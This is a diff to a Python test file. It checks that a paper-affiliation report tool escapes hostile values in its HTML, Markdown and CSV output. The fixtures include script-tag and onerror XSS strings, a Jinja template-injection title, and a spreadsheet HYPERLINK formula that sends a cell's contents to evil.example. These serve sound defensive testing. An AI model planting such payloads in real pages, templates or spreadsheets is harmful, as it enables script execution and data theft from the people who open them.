@@ -15,6 +15,9 @@ from paperscope import report
 PNG = b"\x89PNG\r\n\x1a\n"
 EVIL_TITLE = "On <script>alert(1)</script> Robustness"
 EVIL_AFF = 'Lab "<img src=x onerror=alert(2)>", Beijing, China'
+# Template syntax, a closing script tag and a spreadsheet formula: data, never code.
+JINJA_TITLE = "{{ 7*7 }} {% if 1 %}x{% endif %} </script><script>alert(3)</script> | pipe"
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 class Page(HTMLParser):
@@ -56,6 +59,8 @@ def _frames():
         ("p2", 2025, "Plain Title", "/c/2025/b.pdf", "ok", "Oxford", "block", "University of Oxford", "GB", "exact",
          "'Oxford'", 1.0),
         ("p3", 2024, None, "/c/2024/c.pdf", "corrupt", None, None, None, None, None, None, None),
+        ("p4", 2024, JINJA_TITLE, "/c/2024/d.pdf", "ok", "@SUM(1+1)", "header", None, None, None, None, None),
+        ("p5", 2024, FORMULA_TITLE, "/c/2024/e.pdf", "ok", None, None, None, None, None, None, None),
     ], columns=["paper_id", "year", "title", "path", "status", "raw", "source", "institution", "country", "method",
                 "evidence", "score"])
     audit["matched_text"] = "extra column from a newer matcher"
@@ -72,6 +77,12 @@ def _frames():
     failures = pd.DataFrame([(2024, "/c/2024/c.pdf", "corrupt", "<b>xref</b> broken")],
                             columns=["year", "path", "status", "error"])
     return audit, mentions, collab, groups, inputs, failures
+
+
+def _reports(**values):
+    from paperscope.config import load_config
+
+    return load_config(None, [f"reports.{k}={v}" for k, v in values.items()]).reports
 
 
 def _meta(tmp_path, status="passed", message=None):
@@ -93,7 +104,7 @@ def written(tmp_path_factory):
     tmp = tmp_path_factory.mktemp("report")
     audit, mentions, collab, groups, inputs, failures = _frames()
     paths = report.write(tmp / "run", _meta(tmp), inputs=inputs, gate=GATE, collab=collab, terms=groups,
-                         audit=audit, mentions=mentions, failures=failures, settings={"review_sample": 2, "seed": 7})
+                         audit=audit, mentions=mentions, failures=failures, settings=_reports(review_sample=5, seed=7))
     return tmp / "run", paths
 
 
@@ -140,10 +151,40 @@ def test_report_has_sentences_audit_review_and_metadata(written):
     assert set(p1["terms_body"]) == {"Qwen"}  # Llama is only in the references
     assert set(p1["terms (body/full)"]) == {"Qwen 2/3; Llama 0/1"}
     review = pd.read_csv(run_dir / "review_sample.csv")
-    assert len(review) == 2 and {"countries_correct", "terms_correct", "notes"} <= set(review.columns)
+    assert len(review) == 5 and {"countries_correct", "terms_correct", "notes"} <= set(review.columns)
     record = json.loads((run_dir / "run.json").read_text())
     assert record["review_sample"] == list(review["paper_id"])
     assert record["status_counts"] == {"corrupt": 1, "ok": 2}
+
+
+def test_template_syntax_in_a_title_is_shown_not_run(written):
+    run_dir, _ = written
+    raw = (run_dir / "index.html").read_text(encoding="utf-8")
+    text = "".join(_parse(run_dir / "index.html").text)
+    assert JINJA_TITLE in text and "49 x" not in text
+    assert "</script>" not in raw and "script" not in _parse(run_dir / "index.html").tags
+    summary = (run_dir / "summary.md").read_text(encoding="utf-8")
+    assert "{{ 7*7 }} {% if 1 %}x{% endif %} &lt;/script&gt;&lt;script&gt;alert(3)&lt;/script&gt; \\| pipe" in summary
+    assert "</script><script>alert(3)" not in summary
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_defused(written):
+    run_dir, _ = written
+    for name in ("audit.csv", "review_sample.csv"):
+        sheet = pd.read_csv(run_dir / name, dtype=str, keep_default_na=False)
+        cells = [c for col in sheet.columns for c in sheet[col]]
+        assert "'" + FORMULA_TITLE in cells, name
+        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), name
+    audit = pd.read_csv(run_dir / "audit.csv", dtype=str, keep_default_na=False)
+    assert "'@SUM(1+1)" in set(audit["raw"])
+    assert FORMULA_TITLE in "".join(_parse(run_dir / "index.html").text)  # the page shows the title as it is
+
+
+def test_templates_ship_inside_the_package():
+    from importlib import resources
+
+    folder = resources.files("paperscope") / "data" / "templates"
+    assert {"index.html.j2", "summary.md.j2"} <= {p.name for p in folder.iterdir()}
 
 
 def test_failed_gate_run_gets_an_index_that_says_why(tmp_path):
